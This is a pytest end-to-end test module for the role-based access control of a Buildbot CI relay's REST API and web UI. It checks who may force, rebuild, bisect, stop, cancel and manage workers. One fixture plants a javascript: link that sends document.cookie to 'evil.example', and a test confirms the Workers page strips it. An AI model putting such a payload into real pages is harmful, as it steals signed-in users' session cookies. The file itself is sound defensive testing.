"""Who may control a real relay: every control endpoint of the REST API (what the UI's buttons and `crcr force` /
`crcr bisect` call), tried anonymously, as the maintainer of another backend (or host), as the right maintainer and
as an admin. A refused request gets 403 and changes nothing; an allowed one acts, and a stop or cancel by a person
ends with a GitHub status naming them.

One relay for the module: backend alpha (maintainer alice) has a test that holds its builds until a gate opens,
so that a build is running or a request waiting when a test needs one; backend beta (maintainer bob) builds
quickly, and fails once upstream adds a FLAG file (what bisect needs). Host lab (maintainer carol) has an alpha
unit, a beta unit, and an idle unit whose worker the tests pause, stop and kill; its lab admin gave the alpha unit a
web page (info/access_uri) and the beta unit a script in its place.

"Nothing changed" for actions Buildbot carries out asynchronously (stop, cancel, worker actions): each refused
attempt gives a reason naming it ('attempt by bob'); Buildbot logs the reason of every stop and worker action it
carries out, in order, so once an allowed action's reason is in the master's log, no attempt's may be there.
"""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
from urllib.parse import quote

import pytest
from buildbot.process.results import CANCELLED, FAILURE, SUCCESS
from selenium.webdriver.common.by import By

from configfiles import write_file
from conftest import UNITS_BRANCH, backend, make_upstream, prepare_relay, running, suite
from crcr.config.users import add_user, users_file
from crcr.names import status_context, suite_step_name
from harness import holding, wait_until
from webui import (
    TOPBAR_BUTTONS,
    build_link,
    click_when_ready,
    open_page,
    page_text,
    sign_in,
    topbar_buttons,
    wait_for_element,
    wait_for_texts,
)

pytestmark = pytest.mark.e2e

ALICE, BOB, CAROL = ("alice", "alice-pw"), ("bob", "bob-pw"), ("carol", "carol-pw")
ANONYMOUS = None
HELD_COMMITS = 5  # on the units branch: each held build of alpha at a commit of its own, so each has its statuses
FLAG_TEST = "from pathlib import Path\n\n\ndef test_no_flag():\n    assert not (Path(__file__).parents[1] / 'FLAG').exists()\n"
HOSTS = {"lab": {"devices": {"alpha": 1, "beta": 1, "idle": 1}, "admin": "Lab <lab@example.com>",
                 "maintainers": ["carol"]}}
IDLE_UNIT = "lab-idle-0"
# What each unit's info/access_uri says (a unit sends its info/ files as it connects): Buildbot's Workers page draws
# it as a link.
SCRIPTED_UNIT = "lab-beta-0"  # the Workers page lists the units of a builder: not the idle one
ACCESS_URIS = {"lab-alpha-0": "https://lab.example.com/units/alpha-0",
               SCRIPTED_UNIT: "javascript:fetch('https://evil.example/?'+document.cookie)"}


@pytest.fixture(scope="module")
def lab(tmp_path_factory, github):
    root = tmp_path_factory.mktemp("access")
    upstream = make_upstream(root / "upstream")
    upstream.commit("beta's test", {"test/test_flag.py": FLAG_TEST})
    held = [upstream.commit(f"alpha's held test {n}", {"test/test_held.py": holding("hold"), "CHANGES.txt": f"{n}\n"},
                            branch=UNITS_BRANCH) for n in range(HELD_COMMITS)]
    backends = {
        "alpha": {**backend("L2", "alpha", [suite("held", "test/test_held.py")], branches=[UNITS_BRANCH],
                            env={"GATES": str(root), "BACKEND": "alpha"}, queue="every"), "maintainers": ["alice"]},
        "beta": {**backend("L2", "beta", [suite("flag", "test/test_flag.py")]), "maintainers": ["bob"]},
    }
    relay, workers = prepare_relay(root / "relay", upstream, github, backends, hosts=HOSTS)
    for unit in workers:
        if unit.name in ACCESS_URIS:
            write_file(unit.basedir / "info" / "access_uri", ACCESS_URIS[unit.name] + "\n")
    for name, password in (ALICE, BOB, CAROL):
        add_user(users_file(root / "relay" / "secrets"), name, password)
    with running(relay, workers):
        yield Lab(relay, upstream, github, held, {w.name: w for w in workers})


@pytest.fixture(scope="module")
def verdicts(lab) -> tuple[str, str]:
    """A good upstream commit (beta passes) and a bad one on top (beta fails), each with its finished build."""
    good = lab.upstream.commit("Good: beta's test passes")
    assert lab.relay.wait_for_finished_build("beta", good)["results"] == SUCCESS
    bad = lab.upstream.commit("Bad: upstream flags it", {"FLAG": "on\n"})
    assert lab.relay.wait_for_finished_build("beta", bad)["results"] == FAILURE
    return good, bad


class Lab:
    def __init__(self, relay, upstream, github, held: list[str], units: dict):
        self.relay, self.upstream, self.github, self.held, self.units = relay, upstream, github, held, units

    def refused(self, path: str, method: str, *users, **params) -> None:
        """Each of `users` (ANONYMOUS: not signed in) tries the control and gets 403; each attempt's reason names
        who tried."""
        for user in users:
            who = user[0] if user else "anonymous"
            reply = self.relay.rpc(path, method, as_user=user, anonymous=user is ANONYMOUS,
                                   reason=f"attempt by {who}", **params)
            assert reply.get("status") == 403, (who, path, method, reply)

    def allowed(self, path: str, method: str, user, **params):
        """`user` (None: the admin) does it: the result, after Buildbot logged its reason ('done by <name>')."""
        name = user[0] if user else self.relay.admin[0]
        reply = self.relay.rpc(path, method, as_user=user, reason=f"done by {name}", **params)
        assert "result" in reply, (name, path, method, reply)
        return reply["result"]

    def assert_no_attempt_carried_out(self) -> None:
        log = (self.relay.basedir / "twistd.log").read_text(errors="replace")
        assert "attempt by" not in log, [line for line in log.splitlines() if "attempt by" in line]

    def request_count(self) -> int:
        return len(self.relay.get("buildrequests")["buildrequests"])

    def bisections(self) -> list[dict]:
        with urllib.request.urlopen(self.relay.web_url + "plugins/crcr/api/bisections", timeout=10) as answer:
            return json.load(answer)["bisections"]

    def force(self, backend: str, revision: str, user=None) -> int:
        """A build request of `backend` at `revision`, forced by `user` (the admin); its id."""
        _, requests = self.allowed(f"forceschedulers/force-{backend}", "force", user, revision=revision)
        (brid,) = requests.values()
        return brid

    def running_build(self, brid: int) -> dict:
        return wait_until(lambda: next(iter(self.relay.get(f"buildrequests/{brid}/builds")["builds"]), None), 90,
                          f"request {brid}'s build to start")

    def held_build(self, brid: int) -> dict:
        """Request `brid`'s build once alpha's suite holds it: a stop lands in the step it means to stop, not in
        whichever happens to run (the unit's preparation, the checkout) as the build starts."""
        build = self.running_build(brid)
        wait_until(lambda: any(step["name"] == suite_step_name("held") and not step["complete"]
                               for step in self.relay.steps(build)), 90, f"build {build['buildid']} held in its suite")
        return build

    def build(self, buildid: int) -> dict:
        return self.relay.get(f"builds/{buildid}")["builds"][0]

    def request(self, brid: int) -> dict:
        return self.relay.get(f"buildrequests/{brid}")["buildrequests"][0]

    def final_status(self, backend: str, sha: str, description: str) -> dict:
        def posted():
            statuses = self.github.statuses(sha, status_context(backend))
            return statuses and statuses[-1]["description"] == description and statuses[-1]
        return wait_until(posted, 60, f"the status '{description}' of {backend} on {sha[:10]}")

    def worker(self, name: str) -> dict:
        return self.relay.get(f"workers/{name}")["workers"][0]

    def owner(self, bsid: int) -> str:
        (properties,) = self.relay.get(f"buildsets/{bsid}/properties")["properties"]
        return properties["owner"][0]


def test_forcing_a_build_needs_the_backends_maintainer_and_the_owner_is_who_signed_in(lab):
    before = lab.request_count()
    mallory = {"username": "Mallory <root@pytorch.org>", "owner": "Mallory <root@pytorch.org>"}
    lab.refused("forceschedulers/force-beta", "force", ANONYMOUS, ALICE, revision="main", **mallory)
    assert lab.request_count() == before, "a refused force requested nothing"

    for user, name in ((BOB, "bob"), (None, "relay-admin")):
        bsid, _ = lab.allowed("forceschedulers/force-beta", "force", user, revision="main", **mallory)
        assert lab.owner(bsid) == name, "the owner is the signed-in user, whatever the request says"
    assert lab.request_count() == before + 2


def test_a_refusal_tells_who_asked_and_who_may(lab):
    anonymous = lab.relay.rpc("forceschedulers/force-beta", "force", anonymous=True, revision="main")
    assert anonymous["error"]["message"] == "not signed in: you need to have role 'maintainer:beta'"
    alice = lab.relay.rpc("forceschedulers/force-beta", "force", as_user=ALICE, revision="main")
    assert alice["error"]["message"] == "signed in as alice: you need to have role 'maintainer:beta'"


def test_the_ui_offers_an_anonymous_visitor_to_sign_in_in_place_of_each_control(lab, verdicts, anonymous_browser):
    """Buildbot's UI shows its buttons to everyone, and the Authz refused an anonymous visitor only once they had
    filled in the form and sent it: each control is a sign-in instead, back to the page it was on."""
    browser, build = anonymous_browser, lab.relay.builds_of("beta", verdicts[0])[0]
    build_page = build_link(build)
    pages = {build_page: ["Sign in to rebuild"],
             f"#/builders/{build['builderid']}": ["Sign in to bisect", "Sign in to build an upstream revision"],
             "#/workers": ["Sign in for worker actions"],
             f"#/workers/{lab.worker(IDLE_UNIT)['workerid']}": ["Sign in for worker actions"]}
    for page, buttons in pages.items():
        open_page(browser, lab.relay.web_url + page)
        for caption in buttons:
            wait_for_element(browser, f"{TOPBAR_BUTTONS}[.='{caption}']", f"{caption} on {page}")
        # Each names what it signs in for ("Sign in to " alone read for a caption-less button).
        assert all(re.fullmatch(r"Sign in (to|for) \w.*", shown) for shown in topbar_buttons(browser)), (
            page, topbar_buttons(browser))
    # The waterfall's zoom in and out (an icon each, no caption) change only the view: anyone may use them.
    open_page(browser, lab.relay.web_url + "#/waterfall")
    zoom = f"{TOPBAR_BUTTONS}[.//*[local-name()='svg']]"
    wait_for_element(browser, zoom, "the waterfall's zoom buttons")
    assert len(browser.find_elements(By.XPATH, zoom)) == 2, topbar_buttons(browser)
    assert [shown.strip() for shown in topbar_buttons(browser)] == ["", ""], topbar_buttons(browser)

    open_page(browser, lab.relay.web_url + build_page)
    click_when_ready(browser, f"{TOPBAR_BUTTONS}[.='Sign in to rebuild']", "Sign in to rebuild")
    sign_in_page = lab.relay.web_url + "auth/login?redirect=" + quote(build_page.removeprefix("#"), safe="")
    wait_until(lambda: browser.current_url == sign_in_page, 30, f"the sign-in ({sign_in_page})")


def test_the_ui_tells_a_signed_in_user_without_the_right_why_a_control_is_refused(lab, verdicts, browser):
    """Buildbot's UI read a refusal where its REST client does not put it, and showed nothing."""
    build, requests = lab.relay.builds_of("beta", verdicts[0])[0], lab.request_count()
    sign_in(browser, lab.relay, ALICE)
    open_page(browser, lab.relay.web_url + build_link(build))
    click_when_ready(browser, f"{TOPBAR_BUTTONS}[.='Rebuild']", "Rebuild")
    wait_for_texts(browser, ["Cannot rebuild: signed in as alice: you need to have role 'maintainer:beta'"],
                   "the build page")
    assert lab.request_count() == requests, "a refused rebuild requested nothing"

    open_page(browser, lab.relay.web_url + f"#/workers/{lab.worker(IDLE_UNIT)['workerid']}")
    click_when_ready(browser, f"{TOPBAR_BUTTONS}[.='Actions...']", "Actions...")
    click_when_ready(browser, "//div[contains(@class, 'modal')]//button[.='Pause']", "Pause")
    wait_for_texts(browser, ["signed in as alice: you need to have role 'host:lab'"], "the worker actions")
    assert not lab.worker(IDLE_UNIT)["paused"]


def test_the_workers_page_links_a_units_web_page_and_never_its_script(lab, browser):
    """A link a host sent that is not a web address would run, at a click, as whoever is signed in: the admin."""
    sign_in(browser, lab.relay)
    open_page(browser, lab.relay.web_url + "#/workers")
    wait_for_element(browser, f"//td/a[.='{SCRIPTED_UNIT}']", f"{SCRIPTED_UNIT}'s row")
    links = [link.get_attribute("href") or "" for link in browser.find_elements(By.TAG_NAME, "a")]
    assert not [link for link in links if link.lower().startswith("javascript:")], links
    assert "evil.example" not in page_text(browser)
    assert ACCESS_URIS["lab-alpha-0"] in links
    assert lab.worker(SCRIPTED_UNIT)["workerinfo"]["access_uri"] is None


def test_the_relays_answers_say_nosniff(lab):
    """No browser takes an answer for another type than it is served as (a script, a page)."""
    for path in ("", "api/v2/workers", "plugins/crcr/api/relay", "badges/alpha.svg", "metrics"):
        try:
            answer = urllib.request.urlopen(lab.relay.web_url + path, timeout=10)
        except urllib.error.HTTPError as refused:  # /metrics asks for Prometheus's token
            answer = refused
        with answer:
            assert answer.headers["X-Content-Type-Options"] == "nosniff", path


def test_rebuilding_needs_the_backends_maintainer(lab, verdicts):
    good, _ = verdicts
    (build,) = lab.relay.builds_of("beta", good)
    before = lab.request_count()
    lab.refused(f"builds/{build['buildid']}", "rebuild", ANONYMOUS, ALICE)
    assert lab.request_count() == before, "a refused rebuild requested nothing"

    for user in (BOB, None):
        lab.allowed(f"builds/{build['buildid']}", "rebuild", user)
    assert lab.request_count() == before + 2


def test_bisecting_needs_the_backends_maintainer(lab, verdicts):
    good, bad = verdicts
    before, requests = lab.bisections(), lab.request_count()
    lab.refused("forceschedulers/bisect-beta", "force", ANONYMOUS, ALICE, good=good, bad=bad)
    assert (lab.bisections(), lab.request_count()) == (before, requests), "a refused bisection started nothing"

    started = [lab.allowed("forceschedulers/bisect-beta", "force", user, good=good, bad=bad)["bisection"]
               for user in (BOB, None)]
    by = {b["id"]: b["requested_by"] for b in lab.bisections()}
    assert [by[bisection] for bisection in started] == ["bob", "relay-admin"]


def test_no_form_acts_on_another_backends_builder(lab):
    """bob (beta's maintainer) names beta's builder through alpha's forms, as the UI names a form's builder: Buildbot
    allowed it (its rule asks the form which builder a builderid means, and a form answered beta), then bisect-alpha
    bisected alpha. Now bob is refused, and the admin gets 400 naming the builder; nothing starts."""
    beta = lab.relay.builder_id("beta")
    good, bad = lab.held[:2]
    before, requests = lab.bisections(), lab.request_count()
    forms = {"bisect-alpha": {"good": good, "bad": bad, "tests": "held"}, "force-alpha": {"revision": bad}}
    for form, params in forms.items():
        lab.refused(f"forceschedulers/{form}", "force", BOB, builderid=beta, **params)
        admin = lab.relay.rpc(f"forceschedulers/{form}", "force", builderid=str(beta), **params)
        assert (admin["status"], admin["error"]["message"]) == (
            400, {"builderid": f"builder id '{beta}' is not this form's builder: {form} acts on alpha only"})
    assert (lab.bisections(), lab.request_count()) == (before, requests), "a refused request started nothing"


def test_what_is_not_there_is_404_and_an_unexpected_error_says_it_is_logged(lab, verdicts):
    missing = lab.relay.rpc("forceschedulers/force-gamma", "force", revision="main")
    assert (missing["status"], missing["error"]["message"]) == (404, "no force form 'force-gamma' (the forms: "
                                                                 "bisect-alpha, bisect-beta, force-alpha, force-beta)")
    # Buildbot's stop of a build named by its builder's name reads a builder id that such a path does not have.
    (build,) = lab.relay.builds_of("beta", verdicts[0])
    unexpected = lab.relay.rpc(f"builders/beta/builds/{build['number']}", "stop")
    assert (unexpected["status"], unexpected["error"]["message"]) == (500,
                                                                      "internal error, logged in the master's log")
    assert "KeyError: 'builderid'" in (lab.relay.basedir / "twistd.log").read_text(errors="replace")


def test_stopping_a_build_needs_the_backends_maintainer_and_its_status_names_who(lab):
    for sha, (user, name) in zip(lab.held, ((ALICE, "alice"), (None, "relay-admin"))):
        build = lab.held_build(lab.force("alpha", sha))
        lab.refused(f"builds/{build['buildid']}", "stop", ANONYMOUS, BOB)
        assert not lab.build(build["buildid"])["complete"], "a refused stop left the build running"

        lab.allowed(f"builds/{build['buildid']}", "stop", user)
        status = lab.final_status("alpha", sha, f"Cancelled by {name}")
        assert status["state"] == "error"
        assert lab.build(build["buildid"])["results"] == CANCELLED
    lab.assert_no_attempt_carried_out()


def test_cancelling_a_build_request_needs_the_backends_maintainer_and_its_status_names_who(lab):
    holder = lab.running_build(lab.force("alpha", lab.held[2]))  # keeps alpha's only unit busy
    for sha, (user, name) in zip(lab.held[3:], ((ALICE, "alice"), (None, "relay-admin"))):
        brid = lab.force("alpha", sha)
        lab.refused(f"buildrequests/{brid}", "cancel", ANONYMOUS, BOB)
        lab.allowed(f"buildrequests/{brid}", "cancel", user)
        lab.final_status("alpha", sha, f"Cancelled by {name}")
        assert lab.request(brid)["results"] == CANCELLED
    lab.allowed(f"builds/{holder['buildid']}", "stop", None)
    # Every cancel of this module was a maintainer's or an admin's: a bare 'Cancelled', or one by bob, would be a
    # refused attempt carried out after all.
    descriptions = {s["description"] for s in lab.github.statuses(context=status_context("alpha"))
                    if s["state"] == "error"}
    assert descriptions <= {"Cancelled by alice", "Cancelled by relay-admin"}, descriptions


def test_pausing_a_unit_needs_its_hosts_maintainer(lab):
    for user in (CAROL, None):
        lab.refused(f"workers/{IDLE_UNIT}", "pause", ANONYMOUS, ALICE)
        assert not lab.worker(IDLE_UNIT)["paused"]
        lab.allowed(f"workers/{IDLE_UNIT}", "pause", user)
        wait_until(lambda: lab.worker(IDLE_UNIT)["paused"], 30, f"{IDLE_UNIT} paused")

        lab.refused(f"workers/{IDLE_UNIT}", "unpause", ANONYMOUS, ALICE)
        assert lab.worker(IDLE_UNIT)["paused"]
        lab.allowed(f"workers/{IDLE_UNIT}", "unpause", user)
        wait_until(lambda: not lab.worker(IDLE_UNIT)["paused"], 30, f"{IDLE_UNIT} unpaused")
    lab.assert_no_attempt_carried_out()


@pytest.mark.parametrize("action", ["stop", "kill"])
def test_stopping_or_killing_a_unit_needs_its_hosts_maintainer(lab, action):
    for user in (CAROL, None):
        lab.refused(f"workers/{IDLE_UNIT}", action, ANONYMOUS, ALICE)
        assert lab.worker(IDLE_UNIT)["connected_to"], "a refused action left the unit connected"
        lab.allowed(f"workers/{IDLE_UNIT}", action, user)
        wait_until(lambda: not lab.worker(IDLE_UNIT)["connected_to"], 60, f"{IDLE_UNIT} to shut down")
        lab.units[IDLE_UNIT].start()  # its admin starts it again
        wait_until(lambda: lab.worker(IDLE_UNIT)["connected_to"], 60, f"{IDLE_UNIT} to connect again")
    lab.assert_no_attempt_carried_out()


def test_reconfig_like_controls_are_the_admins_alone(lab):
    scheduler = lab.relay.get("schedulers?name=force-beta")["schedulers"][0]["schedulerid"]
    lab.refused(f"schedulers/{scheduler}", "enable", ANONYMOUS, ALICE, BOB, CAROL, enabled=False)
    assert lab.relay.get(f"schedulers/{scheduler}")["schedulers"][0]["enabled"]
    lab.allowed(f"schedulers/{scheduler}", "enable", None, enabled=False)
    wait_until(lambda: not lab.relay.get(f"schedulers/{scheduler}")["schedulers"][0]["enabled"], 30,
               "the scheduler disabled")
    lab.allowed(f"schedulers/{scheduler}", "enable", None, enabled=True)
    wait_until(lambda: lab.relay.get(f"schedulers/{scheduler}")["schedulers"][0]["enabled"], 30,
               "the scheduler enabled again")
